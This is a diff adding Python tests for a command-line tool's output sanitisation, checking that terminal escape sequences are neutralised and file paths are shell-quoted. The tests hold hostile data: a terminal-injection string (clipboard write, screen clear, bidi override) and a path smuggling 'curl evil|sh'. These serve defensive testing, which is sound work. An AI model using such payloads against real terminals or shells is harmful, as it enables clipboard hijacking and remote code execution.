@@ -13,6 +13,7 @@ import pytest
 
 from sskt_edge.cli import output
 from sskt_edge.cli.output import short_count, short_time
+from sskt_edge.cli.precision_table import Row, show_precisions
 from sskt_edge.targets.run_folder import TrainedNetwork
 from tests.training.small import text
 
@@ -81,3 +82,17 @@ def test_a_terminal_gets_bars_that_go_away_and_results_that_stay(tiny_run: Train
 def test_json_is_json_where_a_number_is_not_finite(capsys: pytest.CaptureFixture[str]) -> None:
     output.show_json({"kl": float("inf"), "more": [(1.5, float("nan"))]})
     assert json.loads(capsys.readouterr().out, parse_constant=pytest.fail) == {"kl": None, "more": [[1.5, None]]}
+
+
+def test_what_a_terminal_would_obey_is_shown_as_a_sign(capsys: pytest.CaptureFixture[str]) -> None:
+    evil = "\x1b]52;c;eA==\x07\x1b[2J\x9b1A\r\u202ecat"
+    output.show(evil, {evil: evil}, [evil])
+    output.Bars().say(evil)
+    show_precisions(f"[/x] {evil}", [Row("fp32", evil, 1, 1, 1.0, 1.0, 0, 0.0, 1.0, True)])
+    said = "".join(capsys.readouterr())
+    assert said.count("\N{REPLACEMENT CHARACTER}") > 20 and "[/x]" in said
+    assert not set(said) & set("\x1b\x07\x9b\r\u202e")
+
+
+def test_a_command_to_copy_quotes_its_path() -> None:
+    assert output.quoted(Path("bundles/x;curl evil|sh")) == "'bundles/x;curl evil|sh'"
